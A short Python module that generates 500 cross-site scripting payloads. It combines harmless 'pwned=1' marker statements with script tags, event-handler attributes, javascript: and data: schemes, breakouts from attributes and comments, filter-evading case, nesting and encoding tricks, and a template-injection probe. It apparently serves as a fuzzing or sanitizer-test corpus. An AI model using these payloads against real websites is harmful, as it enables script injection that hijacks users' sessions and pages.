"""Ways of foreign scripts into a page."""

from itertools import cycle, islice, product

PAYLOADS = 500


def payloads() -> list[str]:
    """Ways into a page that were found elsewhere: tags, attributes, schemes, breaks out of strings and templates."""
    run = ("window.pwned=1", "top.pwned=1", "self['pwned']=1", "eval('pwned=1')", "Function('pwned=1')()")
    shapes = (
        "<script>{}</script>",
        "</script><script>{}</script>",
        "<img src=x onerror={}>",
        '"><img src=x onerror="{}">',
        "'><img src=x onerror='{}'>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<body onload={}>",
        "<details open ontoggle={}>",
        "<input autofocus onfocus={}>",
        '" autofocus onfocus="{}" x="',
        "' onmouseover='{}' x='",
        "<iframe srcdoc='<script>parent.{}</script>'>",
        '<a href="javascript:{}">x</a>',
        "javascript:{}",
        "<form action=javascript:{}><input type=submit autofocus></form>",
        "<math><mtext></mtext><script>{}</script></math>",
        "<template><script>{}</script></template>",
        '<object data="data:text/html,<script>{}</script>">',
        '<meta http-equiv=refresh content="0;url=javascript:{}">',
        "<style onload={}></style>",
        "<video><source onerror={}></video>",
        "<marquee onstart={}>x</marquee>",
        "{{{{ self.__init__.__globals__ }}}}<script>{}</script>",
        "${{{}}}",
        "--><script>{}</script><!--",
        "]]><script>{}</script>",
        "\u2028<script>{}</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<ScRiPt>{}</sCrIpT>",
        "<script/x>{}</script>",
        "<<script>{};//<</script>",
        "<link rel=stylesheet href=x onerror={}>",
        "<base href=javascript:{}//>",
        "<textarea></textarea><script>{}</script>",
        "<title></title><script>{}</script>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "%3Cscript%3E{}%3C/script%3E",
        "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    )
    endings = ("", " ", "\t<!--", "\n")
    return list(islice(cycle(shape.format(what) + end for end, what, shape in product(endings, run, shapes)), PAYLOADS))
